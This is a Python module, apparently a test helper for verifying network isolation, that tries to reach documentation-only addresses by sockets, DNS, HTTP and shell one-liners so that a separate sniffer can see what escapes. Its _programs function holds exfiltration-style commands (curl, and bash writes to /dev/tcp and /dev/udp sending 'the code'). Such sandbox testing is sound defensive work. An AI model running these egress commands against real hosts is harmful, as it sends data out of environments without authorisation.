"""A program that tries to get out, in every way that it knows: what telemetry, a poisoned file or a
curious plug-in would do. Standard library alone, so that anything can run it; never fails.

`reach()` returns how many of the attempts were not refused at once, which is no proof of anything:
what counts is what the sniffer of `wire.py` sees.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import urllib.request

FOUR, SIX = "192.0.2.9", "2001:db8:1::9"  # documentation addresses: nobody's


def reach() -> int:
    """Try everything once."""
    done = 0
    for attempt in (_tcp, _udp, _ping, _broadcast, _name, _url, _programs):
        with contextlib.suppress(OSError, ValueError):
            attempt()
            done += 1
    return done


def _tcp() -> None:
    for family, host in ((socket.AF_INET, FOUR), (socket.AF_INET6, SIX)):
        with contextlib.suppress(OSError), socket.socket(family) as there:
            there.settimeout(0.3)
            there.connect((host, 443))
    with socket.socket() as there:
        there.settimeout(0.3)
        there.connect((FOUR, 80))


def _udp() -> None:
    for family, host in ((socket.AF_INET6, SIX), (socket.AF_INET, FOUR)):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as there:
            there.sendto(b"the code", (host, 53))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.connect((FOUR, 9))
        there.send(b"the code")


def _ping() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as there:
        there.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (FOUR, 0))


def _broadcast() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
        there.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        there.sendto(b"the code", ("255.255.255.255", 9))


def _name() -> None:
    socket.getaddrinfo("the-code.example.org", 443)


def _url() -> None:
    urllib.request.urlopen(f"http://{FOUR}/the-code", timeout=0.3).close()


def _programs() -> None:
    """What a shell has, all at once; each where it is there."""
    null = subprocess.DEVNULL
    started = [
        subprocess.Popen(["/bin/sh", "-c", line], stdin=null, stdout=null, stderr=null)
        for line in (
            f"curl -m 1 http://{FOUR}/the-code",
            f"timeout 1 bash -c 'echo the code > /dev/tcp/{FOUR}/80'",
            f"timeout 1 bash -c 'echo the code > /dev/udp/{FOUR}/53'",
            f"timeout 1 ping -c 1 -W 1 {FOUR}",
            "timeout 1 getent hosts the-code.example.org",
            f"timeout 1 git ls-remote http://{FOUR}/the-code.git",
        )
    ]
    for process in started:
        process.wait(timeout=10)


if __name__ == "__main__":
    reach()
    marker = os.environ.get("REACHED")
    if marker:
        with contextlib.suppress(OSError), open(marker, "a", encoding="utf-8") as file:
            file.write("tried\n")
